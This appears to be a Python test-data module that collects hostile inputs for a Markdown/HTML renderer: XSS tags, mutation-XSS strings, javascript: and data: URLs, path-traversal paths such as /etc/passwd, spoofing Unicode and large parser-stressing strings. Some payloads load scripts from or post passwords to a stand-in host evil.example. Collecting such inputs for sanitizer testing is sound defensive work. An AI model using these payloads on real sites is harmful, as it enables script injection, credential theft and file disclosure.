"""Texts written to harm: by what a browser would run, by what a reader would believe, by what a parser would choke on."""

TAGS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=javascript:alert(1)>", "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>", "<img srcset='x 1x' onerror=alert(1)>", "<img src=https://evil.example/pixel.png>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>x</math>",
    "<form action=//evil.example><input type=password name=p></form>",
    "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<p style=position:fixed;inset:0>x</p>", "<div id=content class=modal>x</div>", "<span class=at data-user=1>＠市長</span>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "<table><td background=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog>", "<portal src=//evil.example>",
    "<x onclick=alert(1)>x</x>", "<custom-element onmouseover=alert(1) style=display:block>x", "</p></div></article><h1>偽のお知らせ</h1>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<% alert(1) %>", "{{ 7*7 }}{% include '/etc/passwd' %}", "<turbo-stream action=replace target=x><template>x</template></turbo-stream>",
    "<script", "<", "<>", "< script>alert(1)</ script>",
)

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<b><p><b><p></b><script>alert(1)</script>",
    "`<script>alert(1)</script>`", "```\n<script>alert(1)</script>\n```", "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~'><img src=x onerror=alert(1)>\nx\n~~~",
    "**<script>alert(1)</script>**", "# <script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
    "a|<script>alert(1)</script>\n-|-\n<svg onload=alert(1)>|b",
    "<scr<b>ipt>alert(1)</scr</b>ipt>", "<scr**ipt>alert(1)</scr**ipt>", "<scr`ipt>`alert(1)", '<a href="**" onclick="alert(1)**">x</a>',
    "[<img src=x onerror=alert(1)>](https://example.jp/)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&lt",
    "&#0;", "&#xD800;", "&#x110000;", "&#99999999999;",
    "&notin;&NewLine;&Tab;&colon;", "&quot;&apos;onload=alert(1)", "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03", "klzzwxh:0000",
    "\x0234\x03\x0260\x03script\x0262\x03", "\ufdd1script>\ufdd21\ufdd3",
    "\ufdd21\ufdd3<@1>", "<@1><script>", "<@1'onmouseover='alert(1)>", "<@-1><@1e9><@０１><@99999999999999999999>", "<@ 1>", "<@1>" * 50,
)

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\x00script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "javascript&#x3a;alert(1)", "javascript%3aalert(1)",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:,x",
    "//evil.example/", "///evil.example/", "/\\evil.example/", "\\\\evil.example\\share", "/\t/evil.example/", "/%2fevil.example/../",
    "file:///etc/passwd", "blob:https://example.jp/x",
    "view-source:https://example.jp/", "ftp://example.jp/", "ws://example.jp/", "mailto:a@example.jp?subject=x", "tel:110",
    "ms-word:ofe|u|https://evil.example/x.docm", "x-apple:open",
    "https://example.jp@evil.example/", "https://user:pass@evil.example/", "https:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "http://[::1]/", "http://", 'https://example.jp" onclick="alert(1)',
    "https://example.jp/'onclick='alert(1)", "https://example.jp/`onclick=`", "https://example.jp/<script>", "https://example.jp/\u202egnp.exe",
    "https://例え.example/", "https://a.example:99999/", "http://1.2.3.4.5/",
    "https://xn--/", "https://a..b/", "https://-a-/", "https://a.example/\ufdd21\ufdd3", "#onload", "?x=javascript:alert(1)", "../../admin",
    "/chat/../../admin", "/files/1/../../../etc/passwd",
)
FORMS = ("[x]({})", "![x]({})", "<{}>", "{}", '[x]({} "t")', "[x][1]\n\n[1]: {}")

MISLEADING = (
    "\u202ereversed\u202c", "\u2066isolate\u2069", "\u200fRTL\u200e", "請求書\u202excod.exe", "市\u200b長", "admin\u00ad", "\ufeffBOM",
    "\x00null\x00", "a\x1bc\x1b[31mred", "\x7f\x80\x9f", "\ud800", "\udfff\ud800",
    "\ufffe\uffff", "\U0001fffe", "z\u0301\u0301\u0301" * 60, "\u2028line\u2029paragraph\x85next\x0bvt\x0cff", "\r\n\r\r\n", "　", "\xa0" * 30,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿👨‍👩‍👧", "[https://bank.example](https://evil.example/)",
)

BOMBS = tuple(unit * (10_000 // len(unit)) for unit in (
    "[", "![", "[[", "](", "[a](", "[a](http://a/", "(", ")", "*", "**", "***", "**a ", "*a **b ", "_", "__a ", "_a _", "~", "~~a ", "`", "``a`",
    "` `` ``` ", ">", "> ", ">\n", "> > - ", "1. ", "1.", "- ", "- - ", "+ * ", "1. a\n",
    "- a\n", "- a\n\n", "  - a\n", "> a\n- b\n", "|", "|-", "|\n", "|a|b\n", "a|b\n-|-\n", "&#", "&", "&amp;", "<", "<!--", "<a ", "</p>",
    "<![CDATA[", "<@1>", "<@", "#", "# a\n", "\n", "\n\n", " ", " \n", "\t", "　", "\\", "\\*", ":", "=\n",
    "---\n", "- [ ] ", "- [x] a\n", "http://", "http://a.b ", "https://a/(", "/a/", "/a/1 ", "/a/1/", "a", "あ", "🙂", "\u0301", "\u202e", "\x00",
    "\ufdd2", "```\n", "~~~\n", "```a\n```\n", "*_~~`[", "*a*_b_~~c~~`d`",
))

ATTACKS = (*TAGS, *MUTATIONS, *(form.format(address) for form in FORMS for address in ADDRESSES), *MISLEADING, *BOMBS)
